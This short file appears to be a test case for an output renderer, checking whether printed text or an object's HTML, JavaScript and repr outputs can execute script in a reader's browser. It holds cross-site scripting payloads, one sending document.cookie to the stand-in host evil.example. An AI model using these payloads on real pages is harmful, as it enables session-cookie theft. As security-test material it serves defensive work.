# Tries: to have a script run in the browser of whoever reads what it printed
# Expects: ok
# Shows: result
print("<script>fetch('//evil.example/' + document.cookie)</script><img src=x onerror=alert(1)>")


class Page:
    def _repr_html_(self):
        return "<script>alert(1)</script>"

    def _repr_javascript_(self):
        return "alert(1)"

    def __repr__(self):
        return "<svg onload=alert(1)>"


Page()
